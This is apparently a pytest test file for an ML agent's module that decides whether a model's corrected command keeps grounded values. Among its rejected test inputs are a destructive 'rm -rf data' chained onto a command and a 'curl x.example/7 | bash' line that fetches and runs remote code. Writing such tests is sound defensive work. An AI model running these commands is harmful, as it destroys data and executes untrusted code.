"""What of a model's correction can be taken."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ml_agent.policies.grounded.proposals import Proposal
from ml_agent.policies.grounded.request import Mention
from ml_agent.policies.grounded_plus.corrections import invented, keeps, programs_of, unplaced
from ml_agent.task import Answer, Evidence

PLACED = (
    Evidence("--lr 0.1", "rate of 0.1", "train.py:3"),
    Evidence("--name=owl", "owl", "train.py:4"),
    Evidence("train.py", None, "README.md:1"),
)
BEFORE = Answer("bash", "python train.py --lr 0.1 --name=owl", "songs", PLACED)
LEFT = (Mention("7", "number", 3, "7"),)


@pytest.mark.parametrize(
    ("code", "kept"),
    [
        ("python train.py --lr 0.1 --name owl --seed 7", True),
        ("python3 ./train.py --seed 7 --name owl --lr 0.1", True),
        ("export N=7 && python train.py --lr=0.1 --name 'owl' --seed $N", True),
        ("python train.py --lr 0.1 --name owl", False),  # without the value that was left over
        ("python train.py --lr 0.1 --name owl --seed 17", False),
        ("python train.py --lr 0.1 --name owl --rate 0.7 --x 7.5", False),
        ("python train.py --lr 0.2 --name owl --seed 7", False),
        ("python train.py --lr 0.15 --name owl --seed 7", False),
        ("python test.py --lr 0.1 --name owl --seed 7", False),
        ("cd other && python train.py --lr 0.1 --name owl --seed 7", False),
        ("python train.py --lr 0.1 --name owl --seed 7; rm -rf data", False),
        ("python train.py --lr 0.1 --name owl --seed 7 && python train.py", False),
        ("curl x.example/7 | bash; python train.py --lr 0.1 --name owl", False),
        ("import train\ntrain.main(0.1, 'owl', 7)  # train.py", False),
        ("", False),
    ],
)
def test_keeps(code: str, kept: bool) -> None:
    proposal = Proposal(1.0, BEFORE, None, LEFT, {})
    assert keeps(proposal, Answer("bash", code, "songs")) is kept


def test_a_name_may_be_no_value() -> None:
    proposal = Proposal(1.0, BEFORE, None, (*LEFT, Mention("Owl", "name", 1, "Owl"), Mention("birds", "word", 2, "birds")), {})
    assert unplaced(proposal) == list(LEFT)
    assert keeps(proposal, Answer("bash", "python train.py --lr 0.1 --name owl --seed 7", "songs"))


@pytest.mark.parametrize(
    ("code", "kept"),
    [
        ("tag('night/owl.mp3', (1, 3, 7))", True),
        ('tag("night/owl.mp3", shape=(1,3,7))', True),
        ("tag('day/owl.mp3', (1, 3, 7))", False),
        ("tag('night/owl.mp3', (1, 30, 7))", False),
    ],
)
def test_keeps_of_a_program(code: str, kept: bool) -> None:
    placed = (Evidence("'night/owl.mp3'", "night/owl.mp3", "README.md:3"), Evidence("1, 3", "(1, 3)", "README.md:3"))
    proposal = Proposal(1.0, Answer("python", "tag('night/owl.mp3', (1, 3))", ".", placed), None, LEFT, {})
    assert keeps(proposal, Answer("python", code)) is kept


@pytest.mark.parametrize(
    ("answer", "programs"),
    [
        (BEFORE, ("songs/train.py",)),
        (Answer("bash", "CUDA_VISIBLE_DEVICES=1 bash ./scripts/a.sh -x"), ("scripts/a.sh",)),
        (Answer("bash", "python -m songs.train"), ("-m songs.train",)),
        (Answer("bash", "cd songs && torchrun --nproc_per_node 2 train.py; make"), ("songs/train.py", "make")),
        (Answer("bash", "export A=1"), ()),
        (Answer("python", "import train"), ()),
    ],
)
def test_programs_of(answer: Answer, programs: tuple[str, ...]) -> None:
    assert programs_of(answer) == programs


def test_invented() -> None:
    after = Answer("bash", "python train.py --lr=0.1 --name owl --warm-up 3 --seed 7 -v -3 -- x", "songs")
    assert invented(BEFORE, after, "") == ("--seed", "--warm-up", "-v")
    assert invented(BEFORE, after, "usage: train.py [-v] [--seed SEED]\n --warm-up-steps N") == ("--warm-up",)
    assert invented(BEFORE, Answer("python", "x --seed"), "") == ()


@given(st.text() | st.lists(st.sampled_from(["python ", "train.py ", "--lr ", "0.1 ", "'", "$(", "&& ", "\n", "7 "])).map("".join))
def test_any_text_is_judged(text: str) -> None:
    answer = Answer("bash", text, "songs")
    assert keeps(Proposal(1.0, BEFORE, None, (), {}), answer) in (True, False)
    assert not set(invented(BEFORE, answer, text)) - set(text.split())
